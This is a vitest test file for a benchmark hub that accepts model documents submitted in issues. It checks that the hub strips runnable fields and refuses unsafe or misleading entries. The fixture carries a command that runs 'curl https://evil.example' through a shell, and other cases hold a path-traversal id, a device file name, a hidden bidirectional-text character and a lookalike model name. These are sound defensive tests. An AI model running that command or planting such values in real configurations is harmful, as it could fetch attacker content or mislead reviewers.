import { describe, expect, test } from 'vitest'
import { compareText } from '../../src/core/index.js'
import { decisionsAt, purge, withHub } from '../../src/hub/index.js'
import { parseModel } from '../../src/spec/index.js'
import { EVAL_ID, formBody, hubWorld, RECORD } from './hub-world.js'

const OURS = RECORD.replace('candidate: logistic_regression', 'candidate: brain_former')
const CARD = `kind: fmbench.model/v1
model_id: brain_former
aliases: [logistic_regression]
name: BrainFormer
modality: fMRI
is_floor: true
adapter: process
options: { command: [sh, -c, "curl https://evil.example"], cwd: /home/sam }
extra: { anything: goes }
`
const block = (yaml: string): string => `\n### Model document\n\n\`\`\`yaml\n${yaml}\`\`\`\n`
const submission = (...cards: readonly string[]): string => formBody(OURS) + cards.map(block).join('')

const submit = async (...cards: readonly string[]) => {
  const world = hubWorld()
  const outcome = await world.tell({ event: 'issues.opened', body: submission(...cards) })
  return { world, outcome, comment: outcome.replies[0].comment }
}

test('a model that the hub does not know needs a document', async () => {
  const { outcome, comment } = await submit()
  expect(outcome).toMatchObject({ exitCode: 100, state: 'changes_requested' })
  expect(comment).toContain('submit --model-card')
})

test('with it the record is checked; the document is written when a reviewer accepts, and nothing of it can run', async () => {
  const { world, outcome, comment } = await submit(CARD)
  expect(outcome, comment).toMatchObject({ exitCode: 0, state: 'checked' })
  expect(Object.keys(world.files()).filter((name) => name.startsWith('models/'))).toEqual([])
  expect((await decisionsAt('/hub', world.effects)).waiting).toEqual(new Set([`${EVAL_ID}.yaml`]))
  await world.tell({ event: 'issue_comment.created', body: submission(CARD) })
  const text = world.files()['models/brain_former.yaml']
  expect((await parseModel(text, 'model.yaml')).value).toEqual({
    kind: 'fmbench.model/v1',
    model_id: 'brain_former',
    aliases: [],
    name: 'BrainFormer',
    version: '1.0.0',
    modality: 'fMRI',
    is_floor: false,
    adapter: 'none',
    options: {},
  })
  expect(world.files()['history.jsonl']).toMatch(/"act":"accepted".*"model_sha256":"[0-9a-f]{64}"/)
})

test('a rejected record leaves no document', async () => {
  const { world } = await submit(CARD)
  await world.tell({ event: 'issue_comment.created', body: submission(CARD), comment: '/reject No.' })
  expect(Object.keys(world.files()).toSorted(compareText)).toEqual(['evals/index.json', 'history.jsonl'])
})

test('purging the record takes the document too, unless another record needs it', async () => {
  const purged = async (...more: readonly string[]) => {
    const { world } = await submit(CARD)
    await world.tell({ event: 'issue_comment.created', body: submission(CARD) })
    for (const body of more) {
      const { exitCode, replies } = await world.tell({ event: 'issues.opened', number: 40, body })
      expect(exitCode, replies[0].comment).toBe(0)
    }
    await withHub('/hub', world.effects, async (hub) => purge(EVAL_ID, 'why', hub, world.effects))
    return Object.keys(world.files()).filter((name) => name.startsWith('models/'))
  }
  expect(await purged()).toEqual([])
  expect(await purged(submission(CARD).replace(EVAL_ID, 'second'))).toEqual(['models/brain_former.yaml'])
})

describe('is refused', () => {
  test.each<[string, string[], RegExp]>([
    ['for another model than that of the record', [CARD.replace('brain_former', 'other')], /this document about/],
    ['twice', [CARD, CARD], /describes 2 models/],
    ['as a path', [CARD.replace('brain_former', '../brain')], /model_id/],
    ['as a device', [CARD.replace('brain_former', 'con')], /cannot be the name of a file/],
    ['unfilled', [CARD.replace('BrainFormer', '<model name>')], /stands for something to fill in/],
    ['with text that turns around', [CARD.replace('BrainFormer', '"Brain\\u202eFormer"')], /nobody sees/],
    ['half', ['kind: fmbench.model/v1\nmodel_id: brain_former\n'], /name/],
    ['of another kind of document', ['kind: fmbench.dataset/v1\n'], /holds 2 documents/],
    ['under two kinds', [`${CARD}kind: fmbench.eval/v1\n`], /kind/],
  ])('%s', async (_what, cards, why) => {
    const { outcome, world, comment } = await submit(...cards)
    expect(outcome.exitCode).toBe(100)
    expect(comment).toMatch(why)
    expect(Object.keys(world.files())).not.toContain(`evals/${EVAL_ID}.yaml`)
  })
})

test('a name that looks like that of another model is asked about', async () => {
  const body = submission(CARD).replaceAll('brain_former', 'l0gistic_regression')
  const { replies, state } = await hubWorld().tell({ event: 'issues.opened', body })
  expect({ state, comment: replies[0].comment }).toMatchObject({
    state: 'changes_requested',
    comment: expect.stringContaining('logistic'),
  })
})

test('what the hub knows stays as it is', async () => {
  const known = CARD.replace('brain_former', 'Logistic_Regression')
  const world = hubWorld()
  const body = formBody(RECORD) + block(known)
  const { replies, exitCode } = await world.tell({ event: 'issues.opened', body })
  expect({ exitCode, comment: replies[0].comment }).toMatchObject({
    exitCode: 0,
    comment: expect.stringContaining('and uses that one'),
  })
  // So it says again where the other document came between check and acceptance.
  const accepted = await world.tell({ event: 'issue_comment.created', body })
  expect(accepted).toMatchObject({ state: 'accepted' })
  expect(accepted.replies[0].comment).toMatch(/^Note: the hub has a document of .* already, and uses that one\.$/m)
  expect(Object.keys(world.files()).filter((name) => name.startsWith('models/'))).toEqual([])
})
